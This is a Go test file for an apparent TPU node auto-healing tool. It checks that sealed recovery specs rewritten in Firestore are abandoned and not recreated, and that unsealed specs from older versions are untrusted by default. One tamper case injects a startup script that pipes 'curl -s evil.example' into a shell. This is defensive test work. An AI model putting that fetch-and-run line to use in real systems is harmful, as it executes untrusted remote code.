//go:build emulator

package remediate_test

// Issue 19: the ledger is not a trust root. A spec rewritten in the
// Firestore database between two looks is never created, and a spec saved
// by a version before seals is untrusted unless configured otherwise.

import (
	"context"
	"encoding/json"
	"strings"
	"testing"
	"time"

	"cloud.google.com/go/firestore"
	tpu "google.golang.org/api/tpu/v2"

	"github.com/tpu-autoheal/autoheal/internal/ledger"
	"github.com/tpu-autoheal/autoheal/internal/remediate"
	"github.com/tpu-autoheal/autoheal/internal/tpufake"
)

func TestTamperedSpecOnFirestoreIsNeverCreated(t *testing.T) {
	for _, tc := range []struct {
		name   string
		tamper func(*tpu.Node)
	}{
		{"changed service account", func(n *tpu.Node) { n.ServiceAccount.Email = "owner@acme-ml.iam.gserviceaccount.com" }},
		{"injected startup script", func(n *tpu.Node) { n.Metadata["startup-script"] = "#!/bin/bash\ncurl -s evil.example | sh" }},
	} {
		t.Run(tc.name, func(t *testing.T) {
			e := newEnv(t, tpufake.Fleet{Nodes: []*tpu.Node{fullNode("TERMINATED")}})
			prefix := fsPrefix("tamper_")
			client := fsClient(t)
			remediate.SetStore(e.h, ledger.NewFirestore(client, ledger.WithPrefix(prefix), ledger.WithClock(e.clock.Now)))
			e.h.Sealer = localKeys(t)
			ctx := context.Background()
			if _, err := e.h.Handle(ctx, terminate("e1")); err != nil {
				t.Fatal(err)
			}
			// Someone with datastore.entities.update rewrites the spec.
			ref := client.Collection(prefix + ledger.CollectionRecoveries).Doc(strings.ReplaceAll(nodeName, "/", "~"))
			snap, err := ref.Get(ctx)
			if err != nil {
				t.Fatal(err)
			}
			if mac, _ := snap.DataAt("specMac"); len(mac.([]byte)) == 0 {
				t.Fatalf("saved document has no seal: %v", snap.Data())
			}
			var n tpu.Node
			if err := json.Unmarshal([]byte(snap.Data()["spec"].(string)), &n); err != nil {
				t.Fatal(err)
			}
			tc.tamper(&n)
			b, _ := json.Marshal(&n)
			if _, err := ref.Update(ctx, []firestore.Update{{Path: "spec", Value: string(b)}}); err != nil {
				t.Fatal(err)
			}
			if _, err := e.h.Drain(ctx, e.clock.Set, 40); err != nil {
				t.Fatalf("Drain: %v", err)
			}
			wantCounts(t, e.fake, map[string]int{"nodes.delete": 1, "nodes.create": 0})
			errs := errorRecords(e.records.list())
			if len(errs) != 1 || errs[0].Outcome != remediate.OutcomeAbandoned || !strings.Contains(errs[0].Err, "saved spec tampered with") {
				t.Fatalf("ERROR records = %+v; want one, abandoned, naming the tampering", errs)
			}
		})
	}
}

// A recovery document exactly as a version before seals wrote it (no
// specKeyVersion, no specMac), its node deleted.
func TestUnsealedFirestoreSpecOfAnOldVersion(t *testing.T) {
	specJSON, err := json.Marshal(remediate.CleanSpec(fullNode("TERMINATED")))
	if err != nil {
		t.Fatal(err)
	}
	for _, trust := range []bool{false, true} {
		t.Run(map[bool]string{false: "untrusted by default", true: "trusted when configured"}[trust], func(t *testing.T) {
			e := newEnv(t, tpufake.Fleet{})
			prefix := fsPrefix("unsealed_")
			client := fsClient(t)
			store := ledger.NewFirestore(client, ledger.WithPrefix(prefix), ledger.WithClock(e.clock.Now))
			e.h.Store, e.h.Sealer, e.h.TrustUnsealedSpecs = store, localKeys(t), trust
			ctx := context.Background()
			old := start.Add(-2 * time.Hour)
			doc := map[string]any{
				"node": nodeName, "project": project, "action": "recreate", "spec": string(specJSON),
				"nodeId": int64(4721934471238), "queuedResource": "", "generation": 1, "holder": "gone-process",
				"leaseUntil": old.Add(15 * time.Minute), "leaseMillis": int64(15 * time.Minute / time.Millisecond),
				"phase": "deleted", "deleteSent": true, "deleteOp": "", "createOp": "", "attempts": 1, "eventId": "e0",
				"cause": "maintenance", "startedAt": old, "updatedAt": old, "lastError": "", "unfinished": true,
				"counted": true, "recreates": []time.Time{old}, "nextLookAt": old, "failures": 0,
			}
			ref := client.Collection(prefix + ledger.CollectionRecoveries).Doc(strings.ReplaceAll(nodeName, "/", "~"))
			if _, err := ref.Set(ctx, doc); err != nil {
				t.Fatal(err)
			}
			if _, err := client.Collection(prefix+ledger.CollectionProjects).Doc(project).Set(ctx, map[string]any{"project": project, "inFlight": []string{nodeName}}); err != nil {
				t.Fatal(err)
			}
			if _, err := e.h.Drain(ctx, e.clock.Set, 40); err != nil {
				t.Fatalf("Drain: %v", err)
			}
			h, err := store.History(ctx, nodeName, project, "", e.clock.Now(), 24*time.Hour)
			if err != nil || h.Recovery == nil {
				t.Fatalf("History: %+v, %v", h, err)
			}
			errs := errorRecords(e.records.list())
			if !trust {
				wantCounts(t, e.fake, map[string]int{"nodes.create": 0})
				if h.Recovery.Phase != remediate.PhaseAbandoned || len(errs) != 1 || !strings.Contains(errs[0].Err, "no seal") {
					t.Errorf("phase %s, ERROR records %+v; want abandoned with one naming the missing seal", h.Recovery.Phase, errs)
				}
				return
			}
			wantCounts(t, e.fake, map[string]int{"nodes.create": 1})
			if h.Recovery.Phase != remediate.PhaseRecovered || len(errs) != 0 {
				t.Errorf("phase %s, ERROR records %+v; want recovered, none", h.Recovery.Phase, errs)
			}
			snap, err := ref.Get(ctx)
			if err != nil {
				t.Fatal(err)
			}
			if kv, _ := snap.DataAt("specKeyVersion"); kv != "test/1" {
				t.Errorf("specKeyVersion after the trusted check = %v, want test/1 (sealed at first read)", kv)
			}
		})
	}
}
